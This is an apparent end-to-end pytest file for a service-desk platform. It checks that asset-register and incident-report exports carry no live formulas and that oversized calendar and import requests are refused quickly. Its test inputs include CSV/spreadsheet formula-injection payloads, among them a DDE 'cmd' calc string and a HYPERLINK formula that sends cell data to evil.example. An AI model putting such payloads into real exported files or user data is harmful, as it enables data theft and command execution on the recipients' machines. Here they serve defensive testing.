"""Findings 6 and 7 on the real stack: exports are data, never formulas; no request freezes a service."""

from __future__ import annotations

import csv
import io
import threading
import time
import uuid

import httpx
import openpyxl
import pytest

from opsdesk_devstack.stack import Stack

from .support import sign_in, wait_for

pytestmark = pytest.mark.e2e

DANGEROUS = ["=HYPERLINK(\"http://evil.example\",\"点击\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def _formulas(xlsx: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    return [f"{sheet.title}!{cell.coordinate}={cell.value!r}" for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def test_the_register_exports_names_as_inert_text(stack: Stack) -> None:
    agent = sign_in(stack, "agent", prefix="desk")
    department = f"安全测试{uuid.uuid4().hex[:6]}"
    for n, name in enumerate(DANGEROUS):
        created = httpx.post(f"{stack.gateway}/api/v1/assets", headers=agent, timeout=15, json={
            "tag": f"SEC-{uuid.uuid4().hex[:8]}-{n}", "type": "desktop", "name": name, "model": name, "owner": name,
            "department": department, "location": {"building": "主楼", "floor": "1", "room": "101"},
        })
        assert created.status_code == 201, created.text
    xlsx = httpx.get(f"{stack.gateway}/api/v1/register/export", params={"format": "xlsx", "department": department},
                     headers=agent, timeout=60)
    assert xlsx.status_code == 200, xlsx.text
    assert _formulas(xlsx.content) == []
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    texts = {str(c.value) for s in book.worksheets for r in s.iter_rows() for c in r if c.value is not None}
    assert all(("'" + name) in texts or name.lstrip("\t\r") not in texts for name in DANGEROUS)

    exported = httpx.get(f"{stack.gateway}/api/v1/register/export", params={"format": "csv", "department": department},
                         headers=agent, timeout=60)
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    dangerous_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [c for c in cells if c.startswith(dangerous_starts) and not _is_number(c)], cells[:40]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_major_incident_spreadsheet_holds_the_title_as_text(stack: Stack) -> None:
    agent = sign_in(stack, "agent", prefix="desk")
    manager = sign_in(stack, "manager", prefix="pm")
    title = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"核心交换机故障\")"
    body = {"title": title, "description": "核心交换机宕机,全楼断网", "channel": "hotline", "service_code": "RS-REPAIR",
            "requester": {"name": "王小明", "department": "办公室"}, "major_incident": True}
    major = httpx.post(f"{stack.gateway}/api/v1/tickets", json=body, headers=agent, timeout=15)
    assert major.status_code == 201, major.text
    tid = major.json()["id"]
    resolved = httpx.post(f"{stack.gateway}/api/v1/tickets/{tid}/resolve", json={"resolution": "更换电源模块"}, headers=agent, timeout=15)
    assert resolved.status_code == 200, resolved.text
    stored = wait_for(lambda: [r for r in httpx.get(f"{stack.gateway}/api/v1/reports/stored", headers=manager, timeout=15).json()
                               if r["kind"] == "major-incident" and r["period"] == tid], timeout=40)
    xlsx = httpx.get(f"{stack.gateway}/api/v1/reports/stored/{stored[0]['_id']}", params={"format": "xlsx"}, headers=manager, timeout=60)
    assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK", xlsx.text[:200]
    assert _formulas(xlsx.content) == []


def test_a_calendar_question_over_millennia_is_refused_at_once_and_health_stays_up(stack: Stack) -> None:
    agent = sign_in(stack, "agent", prefix="desk")
    health: list[float] = []
    stop = threading.Event()

    def probe() -> None:
        while not stop.is_set():
            started = time.monotonic()
            httpx.get(f"{stack.service('sla-monitor').url}/healthz", timeout=10)
            health.append(time.monotonic() - started)
            time.sleep(0.05)

    prober = threading.Thread(target=probe)
    prober.start()
    try:
        started = time.monotonic()
        reply = httpx.get(f"{stack.gateway}/api/v1/calendars/office-hours/elapsed", headers=agent, timeout=30,
                          params={"start": "0001-01-01T00:00:00+08:00", "end": "9999-12-31T00:00:00+08:00"})
        took = time.monotonic() - started
    finally:
        stop.set()
        prober.join()
    assert reply.status_code == 422, reply.text
    assert "end" in reply.text
    assert took < 2, f"refusal took {took:.1f} s"
    assert health and max(health) < 1.0, f"/healthz took up to {max(health):.2f} s"


def test_an_import_over_the_row_cap_is_refused_while_reading(stack: Stack) -> None:
    agent = sign_in(stack, "agent", prefix="desk")
    rows = ["tag,type,model,building,floor,room,department,owner"]
    rows += [f"CAP-{n:06d},desktop,M70t,主楼,1,101,财务科,用户{n}" for n in range(50_001)]
    started = time.monotonic()
    reply = httpx.post(f"{stack.gateway}/api/v1/register/import", params={"dry_run": "true"}, headers=agent, timeout=120,
                       files={"file": ("register.csv", ("\n".join(rows) + "\n").encode(), "text/csv")})
    took = time.monotonic() - started
    assert reply.status_code in (413, 422), reply.text[:300]
    assert took < 30
    assert httpx.get(f"{stack.service('assets').url}/healthz", timeout=2).status_code == 200
